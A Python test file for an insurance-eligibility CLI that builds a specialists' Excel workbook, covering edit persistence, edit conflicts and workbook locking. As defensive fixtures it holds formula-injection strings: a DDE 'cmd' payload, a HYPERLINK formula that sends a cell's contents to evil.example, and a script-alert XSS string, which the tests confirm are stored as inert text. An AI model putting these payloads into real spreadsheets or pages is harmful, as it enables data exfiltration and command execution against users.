"""The specialists' rolling workbook through real runs: what it holds, edits kept across
runs, a conflicting edit, a workbook open elsewhere, injection strings kept inert."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.cli_here import payerbot_here
from tests.test_cli import payerbot
from tests.test_followups import _active, _unique

pytestmark = pytest.mark.browser
HEADER = [
    "Appt Date",
    "Patient Last",
    "Patient First",
    "DOB",
    "Insurance",
    "Member ID",
    "Group #",
    "Visit Type",
    "Expected Charge",
]
INJECTIONS = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def _us(iso: str) -> str:
    y, m, d = iso.split("-")
    return f"{m}/{d}/{y}"


def write_appointments(path: Path, gt: dict[str, Any]) -> dict[str, dict[str, Any]]:
    members = [
        m for m in _unique(gt) if m["payer_id"] == "ACME" and m["relationship"] == "subscriber"
    ]
    ended = next(m for m in members if m["coverage"]["termination_date"] and not _active(m))
    active = [m for m in members if _active(m)][:2]
    rows = [
        [
            "12/01/2026",
            ended["last_name"],
            ended["first_name"],
            _us(ended["dob"]),
            "ACME HEALTH",
            ended["member_id"],
            ended["group_number"],
            "Office visit",
            "150.00",
        ],
        [
            "12/01/2026",
            active[0]["last_name"],
            active[0]["first_name"],
            _us(active[0]["dob"]),
            "ACME HEALTH",
            active[0]["member_id"],
            "OLD-GROUP",
            "Office visit",
            "150.00",
        ],
        [
            "12/01/2026",
            INJECTIONS[0],
            INJECTIONS[1],
            _us(active[1]["dob"]),
            "ACME HEALTH",
            active[1]["member_id"][:-4] + "9999",
            "",
            "New patient",
            "",
        ],
        ["12/01/2026", "Nobody", "Bad", "13/45/2020", "ACME HEALTH", "X", "", "", ""],
    ]
    with path.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return {"ended": ended, "changed": active[0], "unknown": active[1]}


def sheet_rows(ws) -> list[dict[str, Any]]:
    header = [c.value for c in ws[1]]
    return [
        dict(zip(header, row, strict=False)) for row in ws.iter_rows(min_row=2, values_only=True)
    ]


def test_the_workbook_holds_the_day_and_keeps_specialists_edits(
    env, settings, ground_truth, tmp_path
):
    worklist = tmp_path / "appointments.csv"
    write_appointments(worklist, ground_truth)
    first = payerbot("run", "eligibility", "--worklist", str(worklist), env=env)
    assert first.returncode == 0, first.stderr[-2000:]
    path = settings.workbook_path
    assert f"specialists' workbook: {path}" in first.stdout

    wb = load_workbook(path)
    assert wb.sheetnames == ["Follow-ups", "Eligibility", "Claim status", "Rejected rows"]
    followups = sheet_rows(wb["Follow-ups"])
    assert sorted(r["Follow-up ID"] is not None for r in followups)
    rules = json.loads(payerbot_here("queue", "list", "--json", env=env).stdout)
    assert sorted(r["id"] for r in rules) == sorted(r["Follow-up ID"] for r in followups)
    assert {r["rule"] for r in rules} == {"coverage_terminated", "plan_changed", "member_not_found"}
    elig = sheet_rows(wb["Eligibility"])
    assert len(elig) == 3 and len(sheet_rows(wb["Rejected rows"])) == 1
    costs = [r["Est. patient cost"] for r in elig if r["Coverage"] == "Active"]
    assert costs and all(isinstance(c, int | float) for c in costs), "estimates as numbers"
    ws = wb["Eligibility"]
    col = [c.value for c in ws[1]].index("Est. patient cost") + 1
    assert ws.cell(row=2, column=col).number_format == '"$"#,##0.00'
    # Evidence links are the console's URLs (default: its host and port); the local copy
    # has the path relative to the workbook beside them, which resolves to the screenshot.
    header = [c.value for c in wb["Follow-ups"][1]]

    def links(title: str) -> list[str]:
        col = header.index(title)
        return [
            row[col].hyperlink.target
            for row in wb["Follow-ups"].iter_rows(min_row=2)
            if row[col].hyperlink
        ]

    console = f"http://{settings.console.host}:{settings.console.port}/files/evidence/"
    assert links("Evidence") and all(u.startswith(console) for u in links("Evidence"))
    local = links("Evidence (local file)")
    assert len(local) == len(links("Evidence"))
    assert all((path.parent / link).is_file() for link in local)
    # Injection strings from the worklist are text, never formulas.
    texts = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    injected = [c for c in texts if any(i.upper() in c.value.upper() for i in INJECTIONS[:2])]
    assert injected and all(c.data_type == "s" for c in injected)
    assert wb["Follow-ups"].data_validations.dataValidation, "status drop-down"

    # A specialist edits the workbook: status, assignee and notes (a formula-like note too).
    ws = wb["Follow-ups"]
    header = [c.value for c in ws[1]]
    target = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == rules[0]["id"])
    ws.cell(target, header.index("Status") + 1, "In Progress")
    ws.cell(target, header.index("Assignee") + 1, "dana")
    note = ws.cell(target, header.index("Notes") + 1, "=called patient, left voicemail")
    note.data_type = "s"  # typed as text ('=...), as Excel stores it
    wb.save(path)

    again = payerbot("run", "eligibility", "--worklist", str(worklist), env=env)
    assert again.returncode == 0
    assert "1 change(s) made in the workbook were saved" in again.stdout
    shown = json.loads(
        payerbot_here("queue", "show", str(rules[0]["id"]), "--json", env=env).stdout
    )
    assert (shown["status"], shown["assignee"]) == ("in progress", "dana")
    assert shown["notes"] == "=called patient, left voicemail"
    assert shown["history"][-1]["actor"] == "workbook"
    reread = load_workbook(path)["Follow-ups"]
    cell = next(
        reread.cell(r, header.index("Notes") + 1)
        for r in range(2, reread.max_row + 1)
        if reread.cell(r, 1).value == rules[0]["id"]
    )
    assert cell.value == "=called patient, left voicemail" and cell.data_type == "s"

    # Changed in the workbook and in the CLI since the last write: the CLI's change stays.
    wb = load_workbook(path)
    ws = wb["Follow-ups"]
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == rules[1]["id"])
    ws.cell(row, header.index("Assignee") + 1, "lee")
    wb.save(path)
    assert payerbot_here("queue", "assign", str(rules[1]["id"]), "kim", env=env).returncode == 0
    third = payerbot("run", "eligibility", "--worklist", str(worklist), env=env)
    assert f"follow-up(s) {rules[1]['id']} were changed both" in third.stdout
    kept = json.loads(payerbot_here("queue", "show", str(rules[1]["id"]), "--json", env=env).stdout)
    assert kept["assignee"] == "kim"


def test_an_open_workbook_gets_a_timestamped_copy_and_the_run_says_so(
    env, settings, ground_truth, tmp_path
):
    worklist = tmp_path / "appointments.csv"
    write_appointments(worklist, ground_truth)
    assert payerbot("run", "eligibility", "--worklist", str(worklist), env=env).returncode == 0
    path = settings.workbook_path
    before = path.read_bytes()
    lock = path.with_name(f"~${path.name}")  # Excel's lock file while someone has it open
    lock.write_text("dana")
    second = payerbot("run", "eligibility", "--worklist", str(worklist), env=env)
    assert second.returncode == 0
    assert "the workbook is open elsewhere" in second.stdout
    copies = sorted(p for p in path.parent.glob(f"{path.stem}-*.xlsx"))
    assert len(copies) == 1 and load_workbook(copies[0]).sheetnames[0] == "Follow-ups"
    assert path.read_bytes() == before, "the open workbook is not touched"


def test_text_from_the_portal_lands_in_the_workbooks_as_literal_text(
    env, settings, ground_truth, hub, tmp_path
):
    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"Acme PPO")<script>alert(1)</script>'
    hub.knobs(hostile_text=hostile)
    worklist = tmp_path / "appointments.csv"
    write_appointments(worklist, ground_truth)
    proc = payerbot("run", "eligibility", "--worklist", str(worklist), env=env)
    assert proc.returncode == 0, proc.stderr[-2000:]
    run_sheet = next((settings.data_dir / "spreadsheets").glob("eligibility-*.xlsx"))
    for path in (settings.workbook_path, run_sheet):
        ws = load_workbook(path)["Eligibility"]
        plan_col = [c.value for c in ws[1]].index("Plan") + 1
        cells = [ws.cell(r, plan_col) for r in range(2, ws.max_row + 1)]
        shown = [c for c in cells if c.value]
        assert shown and all(c.value == hostile and c.data_type == "s" for c in shown), path
